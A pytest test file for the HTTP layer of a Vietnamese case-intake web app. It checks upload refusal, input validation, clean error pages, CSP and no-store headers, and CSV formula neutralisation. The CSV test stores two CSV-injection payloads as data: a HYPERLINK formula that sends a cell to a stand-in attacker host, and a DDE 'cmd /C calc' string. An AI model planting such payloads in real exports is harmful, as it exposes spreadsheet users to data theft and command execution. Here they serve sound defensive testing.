"""The HTTP edge (issue 10, findings 9, 10 and the HTTP parts of 16).

- Uploads are refused before their body is read unless an uploader is logged in with the CSRF header, and
  bodies over their cap are refused by Content-Length before reading (measured by calling the ASGI app with a
  ``receive`` that counts the bytes the app pulled, and by counting what was spooled to temporary files).
- Parameters that used to end in a 500: NUL bytes, ids beyond a 32-bit integer, "¹" in ``ids``, a page number
  of 20 digits, upload names over 255 bytes; an unexpected error answers a clean 500 without internals.
- /docs and /redoc use only the app's own files, under the same Content-Security-Policy as every page.
- Case data, pages and page images are ``Cache-Control: no-store``.
- CSV export: formulas neutralised (OWASP CSV injection) and UTF-8 with a BOM for Excel.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import logging
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from fastapi.testclient import TestClient
from stationkit import login, seed_case, token, users

from donthu.api.app import create_app
from donthu.api.jobs import MAX_NAME_BYTES, remove_upload, safe_filename
from donthu.config import get_settings, reset_settings
from donthu.storage.db import session_scope
from donthu.storage.models import Case
from donthu.storage.objects import make_store

MB = 1 << 20
BOUNDARY = "donthu-test-boundary"


# ---------------------------------------------------------------------------------------------- helpers
def client_as(app: Any, who: str | None, csrf: bool = True) -> TestClient:
    client = TestClient(app)
    if who is not None:
        assert login(client, who) == 303
        if csrf:
            client.headers["X-CSRF-Token"] = token(client)
    return client


def multipart_stream(size: int, chunk: int = MB) -> Iterator[bytes]:
    """A multipart upload of ``size`` bytes of file content, produced lazily, chunk by chunk."""
    yield (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="lon.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode()
    left = size
    while left > 0:
        n = min(chunk, left)
        left -= n
        yield b"%" * n
    yield f"\r\n--{BOUNDARY}--\r\n".encode()


def multipart_length(size: int) -> int:
    return sum(len(c) for c in multipart_stream(0)) + size


class Sent:
    """What the ASGI app did with a request: status, body, and how many body bytes it pulled from ``receive``."""

    def __init__(self) -> None:
        self.status = 0
        self.body = b""
        self.consumed = 0
        self.headers: dict[str, str] = {}


def call_asgi(
    app: Any,
    method: str,
    path: str,
    chunks: Iterator[bytes],
    headers: dict[str, str],
    cookies: dict[str, str] | None = None,
) -> Sent:
    """Call the app as a server would, handing the body out only when the app asks for it."""
    out = Sent()
    pending = iter(chunks)
    hdrs = {"host": "testserver", **headers}
    if cookies:
        hdrs["cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    path_part, _, query = path.partition("?")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path_part,
        "raw_path": path_part.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in hdrs.items()],
        "client": ("127.0.0.1", 50123),
        "server": ("testserver", 80),
    }

    async def receive() -> dict:
        chunk = next(pending, None)
        if chunk is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        out.consumed += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message: dict) -> None:
        if message["type"] == "http.response.start":
            out.status = message["status"]
            out.headers = {k.decode().lower(): v.decode() for k, v in message.get("headers", [])}
        elif message["type"] == "http.response.body":
            out.body += message.get("body", b"")

    # in a thread of its own: the browser tests' Playwright keeps an event loop running in the main thread
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        pool.submit(anyio.run, app, scope, receive, send).result()
    return out


@pytest.fixture()
def spooled(monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
    """Bytes written to spooled temporary files (where Starlette keeps a multipart upload while parsing it)."""
    count = {"bytes": 0}
    original = tempfile.SpooledTemporaryFile.write

    def write(self, s):
        count["bytes"] += len(s)
        return original(self, s)

    monkeypatch.setattr(tempfile.SpooledTemporaryFile, "write", write)
    return count


@pytest.fixture()
def app(data_dir: Path) -> Any:
    with session_scope() as db:
        users(db, extra=())
    return create_app()


def _upload_headers(size: int | None, **extra: str) -> dict[str, str]:
    h = {"content-type": f"multipart/form-data; boundary={BOUNDARY}", **extra}
    if size is not None:
        h["content-length"] = str(multipart_length(size))
    return h


# ---------------------------------------------------------------------------------------------- finding 9
def test_anonymous_50mb_upload_is_refused_without_reading_it(
    app: Any, data_dir: Path, spooled: dict[str, int]
) -> None:
    size = 50 * MB
    for declared in (size, None):  # with Content-Length, and chunked (no length)
        sent = call_asgi(app, "POST", "/api/uploads", multipart_stream(size), _upload_headers(declared))
        assert sent.status == 401, sent.body[:200]
        assert sent.consumed == 0, f"the server read {sent.consumed} bytes of an anonymous upload"
    assert spooled["bytes"] == 0
    uploads = data_dir / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())
    # the same through a whole HTTP client: 401, nothing kept
    res = TestClient(app).post(
        "/api/uploads", files={"file": ("lon.pdf", b"%" * (2 * MB), "application/pdf")}
    )
    assert res.status_code == 401 and res.json()["detail"] == "Chưa đăng nhập"
    assert spooled["bytes"] == 0
    assert not uploads.exists() or not any(uploads.iterdir())


def test_uploads_by_the_wrong_role_or_without_csrf_are_not_read(app: Any, spooled: dict[str, int]) -> None:
    archivist = client_as(app, "archivist")
    sent = call_asgi(
        app,
        "POST",
        "/api/uploads",
        multipart_stream(20 * MB),
        _upload_headers(20 * MB, **{"x-csrf-token": archivist.headers["X-CSRF-Token"]}),
        cookies=dict(archivist.cookies),
    )
    assert (sent.status, sent.consumed) == (403, 0)
    clerk = client_as(app, "reception", csrf=False)
    sent = call_asgi(
        app,
        "POST",
        "/api/uploads",
        multipart_stream(20 * MB),
        _upload_headers(20 * MB),
        cookies=dict(clerk.cookies),
    )
    assert (sent.status, sent.consumed) == (403, 0)
    assert "CSRF" in sent.body.decode()
    assert spooled["bytes"] == 0


def test_oversized_uploads_are_refused_by_length_before_reading(
    data_dir: Path, monkeypatch: pytest.MonkeyPatch, spooled: dict[str, int]
) -> None:
    monkeypatch.setenv("DONTHU_MAX_FILE_MB", "2")
    reset_settings()
    with session_scope() as db:
        users(db, extra=())
    app = create_app()
    clerk = client_as(app, "reception")
    auth = {"x-csrf-token": clerk.headers["X-CSRF-Token"]}
    sent = call_asgi(
        app,
        "POST",
        "/api/uploads",
        multipart_stream(3 * MB),
        _upload_headers(3 * MB, **auth),
        cookies=dict(clerk.cookies),
    )
    assert (sent.status, sent.consumed) == (413, 0)
    assert "2 MB" in sent.body.decode()
    # chunked: read only up to the cap (plus one chunk), then 413
    sent = call_asgi(
        app,
        "POST",
        "/api/uploads",
        multipart_stream(8 * MB),
        _upload_headers(None, **auth),
        cookies=dict(clerk.cookies),
    )
    assert sent.status == 413
    assert sent.consumed <= 2 * MB + 64 * 1024 + MB
    # a file within the limit still goes through the guard to the desk
    res = clerk.post("/api/uploads", files={"file": ("nho.txt", b"khong phai ban quet", "text/plain")})
    assert res.status_code == 200, res.text
    assert app.state.uploads.wait(timeout=60)


def test_other_request_bodies_are_capped_at_1mb(app: Any, spooled: dict[str, int]) -> None:
    form = {"content-type": "application/x-www-form-urlencoded", "content-length": str(5 * MB)}
    sent = call_asgi(app, "POST", "/login", iter([b"username=" + b"a" * MB] * 5), form)
    assert (sent.status, sent.consumed) == (413, 0)
    verifier = client_as(app, "verifier")
    headers = {"content-type": "application/json", "x-csrf-token": verifier.headers["X-CSRF-Token"]}
    sent = call_asgi(
        app,
        "POST",
        "/api/cases/DT-2026-000001/fields",
        iter([b'{"field": "subject", "value": "' + b"a" * MB] * 4 + [b'"}']),
        headers,
        cookies=dict(verifier.cookies),
    )
    assert sent.status == 413 and sent.consumed <= 2 * MB
    # a multipart body to an ordinary form is capped too (nothing spooled beyond the cap)
    sent = call_asgi(
        app,
        "POST",
        "/logout",
        multipart_stream(30 * MB),
        _upload_headers(None),
        cookies=dict(verifier.cookies),
    )
    assert sent.status == 413 and sent.consumed <= 2 * MB + 1024
    assert spooled["bytes"] <= 2 * MB


# ---------------------------------------------------------------------------------------------- finding 10
@pytest.fixture()
def admin(db_url: str) -> TestClient:
    with session_scope() as db:
        users(db, extra=())
        seed_case(db, make_store(get_settings()), 1)
    c = client_as(create_app(), "admin")
    c.case_id = _first_case_id()
    return c


def _first_case_id() -> str:
    with session_scope() as db:
        return db.query(Case).order_by(Case.id).first().case_id


@pytest.mark.postgres
def test_nul_and_broken_unicode_are_refused_with_422(admin: TestClient) -> None:
    for res in (
        admin.get("/api/documents", params={"status": "fa\x00iled"}),
        admin.get("/api/cases/DT-2026%00"),
        admin.get("/api/cases", params={"q": "Mai\x00"}),
        admin.post(f"/api/cases/{admin.case_id}/fields", json={"field": "subject", "value": "thu\x00 hồi"}),
        admin.post(
            f"/api/cases/{admin.case_id}/fields",
            content=b'{"field": "subject", "value": "\\ud800"}',
            headers={"content-type": "application/json"},
        ),
        admin.post("/login", data={"username": "ad\x00min", "password": "x", "csrf": "y"}),
    ):
        assert res.status_code == 422, (res.request.url, res.status_code, res.text[:200])
        assert "không hợp lệ" in res.json()["detail"]
    assert admin.get(f"/api/cases/{admin.case_id}").json()["subject"] == "thu hồi đất nông nghiệp"
    # the same words without the NUL are fine
    ok = admin.post(f"/api/cases/{admin.case_id}/fields", json={"field": "subject", "value": "thu hồi đất"})
    assert ok.status_code == 200, ok.text


@pytest.mark.postgres
def test_out_of_range_numbers_answer_4xx(admin: TestClient) -> None:
    assert admin.get("/api/uploads/2147483648").status_code == 422
    assert admin.get("/api/uploads/-1").status_code == 422
    assert admin.get("/api/uploads/2147483647").status_code == 404
    assert admin.post("/api/documents/2147483648/retry").status_code == 422
    res = admin.get("/api/uploads", params={"ids": "¹,²,2147483648,99999999999999999999,٣"})
    assert res.status_code == 200 and res.json() == []
    page = admin.get("/", params={"page": "99999999999999999999"})
    assert page.status_code == 422 and page.headers["content-type"].startswith("text/html")
    assert "không hợp lệ" in page.text
    assert admin.get("/", params={"page": "2"}).status_code == 200


def test_long_upload_names_fit_the_file_system(app: Any, data_dir: Path) -> None:
    name = "Đơn tố cáo ông Nguyễn Văn Quyết về việc lấn chiếm đất " * 6 + ".pdf"
    assert len(name.encode()) > 255
    clerk = client_as(app, "reception")
    res = clerk.post("/api/uploads", files={"file": (name, b"khong phai ban quet", "application/pdf")})
    assert res.status_code == 200, res.text
    kept = res.json()["filename"]
    assert len(kept.encode()) <= MAX_NAME_BYTES and kept.endswith(".pdf") and kept.startswith("Đơn tố cáo")
    assert app.state.uploads.wait(timeout=60)
    uploads = data_dir / "uploads"
    assert not [d for d in uploads.iterdir() if d.is_dir() and not any(d.iterdir())], (
        "empty upload folders left"
    )


def test_safe_filename_counts_utf8_bytes() -> None:
    long = "ệ" * 150 + ".jpeg"  # 3 bytes a letter
    out = safe_filename(long)
    assert len(out.encode()) <= MAX_NAME_BYTES and out.endswith(".jpeg") and set(out[:-5]) == {"ệ"}
    no_ext = safe_filename("Đ" * 300)
    assert len(no_ext.encode()) <= MAX_NAME_BYTES and no_ext.encode().decode() == no_ext
    assert safe_filename("don.pdf") == "don.pdf"


def test_a_failed_upload_leaves_no_folder(tmp_path: Path) -> None:
    folder = tmp_path / "uploads" / "abc"
    folder.mkdir(parents=True)
    remove_upload(folder / ("x" * 300))  # a name the file system refuses (ENAMETOOLONG)
    assert not folder.exists()


def test_unexpected_errors_answer_a_clean_500(app: Any, caplog: pytest.LogCaptureFixture) -> None:
    def boom() -> None:
        raise RuntimeError("bí mật nội bộ: postgresql://app:pw@db/donthu")

    app.add_api_route("/api/boom", boom)
    app.add_api_route("/boom", boom)
    client = TestClient(app, raise_server_exceptions=False)
    with caplog.at_level(logging.ERROR, logger="donthu.api.errors"):
        res = client.get("/api/boom")
        page = client.get("/boom")
    assert res.status_code == 500 and res.headers["content-type"].startswith("application/json")
    assert "Lỗi hệ thống" in res.json()["detail"] and re.fullmatch(r"[0-9a-f]{8}", res.json()["error_id"])
    assert page.status_code == 500 and page.headers["content-type"].startswith("text/html")
    assert "Lỗi hệ thống" in page.text
    for body in (res.text, page.text):
        assert "bí mật" not in body and "Traceback" not in body and "RuntimeError" not in body
    assert res.json()["error_id"] in caplog.text and "RuntimeError" in caplog.text  # the log has it


# ---------------------------------------------------------------------------------------------- finding 16
def test_docs_use_only_local_assets_under_the_csp(app: Any) -> None:
    anon = TestClient(app)
    for path in ("/docs", "/redoc"):
        assert anon.get(path, follow_redirects=False).status_code == 303
    client = client_as(app, "archivist")
    csp = client.get("/").headers["content-security-policy"]
    for path in ("/docs", "/redoc"):
        res = client.get(path)
        assert res.status_code == 200
        assert not re.search(r"https?://", res.text), f"{path} names an external URL"
        assert res.headers["content-security-policy"] == csp and "default-src 'self'" in csp
        assert "<script>" not in res.text  # no inline script: the CSP would block it
        assets = re.findall(r'(?:src|href)="([^"]+)"', res.text)
        assert any(a.endswith(".js") for a in assets)
        for asset in assets:
            assert asset.startswith("/"), asset
            got = client.get(asset)
            assert got.status_code == 200 and len(got.content) > 100, asset
    swagger = client.get("/docs").text
    assert "/static/docs/swagger-ui-bundle.js" in swagger and "/static/swagger-init.js" in swagger
    assert "/static/docs/redoc.standalone.js" in client.get("/redoc").text


def test_case_data_and_images_are_never_cached(data_dir: Path) -> None:
    with session_scope() as db:
        users(db, extra=())
        case_id = seed_case(db, make_store(get_settings()), 1).case_id
    client = client_as(create_app(), "verifier")
    for url in (
        f"/api/cases/{case_id}/pages/1/image",
        f"/api/cases/{case_id}",
        f"/cases/{case_id}",
        "/api/cases",
        "/",
    ):
        res = client.get(url)
        assert res.status_code == 200, url
        assert res.headers.get("cache-control") == "no-store", (url, res.headers.get("cache-control"))
    assert client.get(f"/api/cases/{case_id}/pages/1/image").headers["content-type"] == "image/jpeg"
    static = client.get("/static/station.css")
    assert static.status_code == 200 and "no-store" not in static.headers.get("cache-control", "")


def test_csv_export_neutralises_formulas_and_has_a_bom(data_dir: Path, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from donthu.cli import app as cli_app

    formula = '=HYPERLINK("http://ke-xau.example/?d="&G2,"Bấm vào đây")'
    with session_scope() as db:
        case = seed_case(db, make_store(get_settings()), 1)
        case.subject = formula
        case.recipient = "@SUM(1+1)*cmd|' /C calc'!A0"
        case.respondent = "-2+3"
    out = tmp_path / "hoso.csv"
    res = CliRunner().invoke(cli_app, ["export", "--format", "csv", "-o", str(out)])
    assert res.exit_code == 0, res.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM: Excel would show the Vietnamese garbled"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["subject"] == "'" + formula
    assert row["recipient"].startswith("'@") and row["respondent"] == "'-2+3"
    assert row["complainant.address"] == "số 5 ngõ 3, xã Đa Tốn"  # ordinary text unchanged
    assert list(row)[0] == "case_id"
